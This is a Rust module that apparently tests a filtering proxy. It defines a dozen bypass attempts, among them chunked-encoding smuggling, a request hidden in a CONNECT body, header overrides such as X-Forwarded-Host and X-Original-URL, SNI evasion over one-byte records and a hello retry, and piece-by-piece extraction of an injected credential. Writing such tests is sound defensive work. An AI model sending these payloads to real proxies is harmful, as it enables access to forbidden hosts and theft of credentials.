//! Requests that look allowed to a proxy and mean something else to the host.

use std::io::{Read, Write};

use super::Run;
use super::hello::{as_kind, hello, in_crumbs};
use super::say::{get, hear, post, say, to_proxy, tunnel};
use crate::attack::Verdict;

/// Size of one piece, and total size.
const PIECE: usize = 8;
const LONGEST: usize = 400;
/// Number of bytes that identify a hello retry request.
const RETRY: usize = 43;

/// Name, description and function of each attack.
pub(super) const ATTACKS: &[(&str, &str, Run)] = &[
    ("proxy_chunk_extension", "end a chunk's line early by a line feed in its extension", |_| {
        post("Transfer-Encoding: chunked", "1;\nx\r\n0\r\n\r\n")
    }),
    ("proxy_chunk_huge", "a chunk whose length overflows to zero in 64 bits", |_| {
        post("Transfer-Encoding: chunked", "10000000000000000\r\n\r\n")
    }),
    ("proxy_chunk_trailer", "name another host behind the last chunk", |_| {
        say(b"POST http://files.example.com/ HTTP/1.1\r\nHost: files.example.com\r\nTransfer-Encoding: chunked\r\n\r\n\
              0\r\nHost: vault.example.com\r\n\r\n")
    }),
    ("proxy_connect_body", "hide a request in the body of a CONNECT", |_| {
        let hidden = "GET /vault HTTP/1.1\r\nHost: vault.example.com\r\n\r\n";
        let line = "CONNECT files.example.com:443 HTTP/1.1\r\nHost: files.example.com:443";
        say(format!("{line}\r\nContent-Length: {}\r\n\r\n{hidden}", hidden.len()).as_bytes())
    }),
    ("proxy_forwarded_host", "name another host in a forwarding header", |_| {
        get("http://files.example.com/", "files.example.com\r\nX-Forwarded-Host: vault.example.com")
    }),
    ("proxy_override_path", "ask for another path by a header than by the target", |_| {
        get("http://paths.example.com/public/a", "paths.example.com\r\nX-Original-URL: /vault")
    }),
    ("proxy_override_method", "ask by another method", |_| {
        get("http://paths.example.com/public/a", "paths.example.com\r\nX-HTTP-Method-Override: vault")
    }),
    ("proxy_sni_crumbs", "spread the other name over records of one byte", |_| {
        tunnel("files.example.com:443", &in_crumbs("vault.example.com"))
    }),
    ("proxy_sni_dot", "ask for the other server with a dot at its end", |_| {
        tunnel("files.example.com:443", &hello(&["vault.example.com."]))
    }),
    ("proxy_sni_kind", "ask for it by another kind of name", |_| {
        tunnel("files.example.com:443", &as_kind(1, "vault.example.com"))
    }),
    ("proxy_sni_retry", "ask for it in the second hello, after a hello retry request", |_| second_hello()),
    ("proxy_key_range", "have a host repeat the injected credential piece by piece", |_| piece_by_piece()),
];

/// Sends a hello for the allowed server, and after a retry request a hello for the other server.
fn second_hello() -> Verdict {
    let mut stream = to_proxy();
    stream.write_all(b"CONNECT retry.example.com:443 HTTP/1.1\r\nHost: retry.example.com:443\r\n\r\n").expect("say");
    let mut heard = Vec::new();
    while !heard.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        if stream.read_exact(&mut byte).is_err() {
            return Verdict::Blocked(String::from_utf8_lossy(&heard).into_owned());
        }
        heard.extend(byte);
    }
    let mut retry = [0; RETRY];
    let wanted = stream.write_all(&hello(&["retry.example.com"])).and_then(|()| stream.read_exact(&mut retry));
    let sent = wanted.and_then(|()| stream.write_all(&hello(&["vault.example.com"])));
    Verdict::Blocked(format!("{sent:?}, {} bytes", hear(stream).len()))
}

/// Requests the host's echo piece by piece, and joins the pieces.
fn piece_by_piece() -> Verdict {
    let mut whole = String::new();
    for start in (0..LONGEST).step_by(PIECE) {
        let mut stream = to_proxy();
        // The echo contains the range header, so its length must not change.
        let range = format!("Range: bytes={start:04}-{:04}", start + PIECE - 1);
        let asked = format!("GET http://keyed.example.com/ HTTP/1.1\r\nHost: keyed.example.com\r\n{range}\r\n\r\n");
        stream.write_all(asked.as_bytes()).expect("say");
        let mut heard = String::new();
        // Data before an error counts as well.
        let _ = stream.read_to_string(&mut heard);
        whole.push_str(heard.split_once("\r\n\r\n").map_or("", |(_, body)| body));
    }
    println!("{whole}");
    Verdict::Blocked(format!("{} bytes", whole.len()))
}
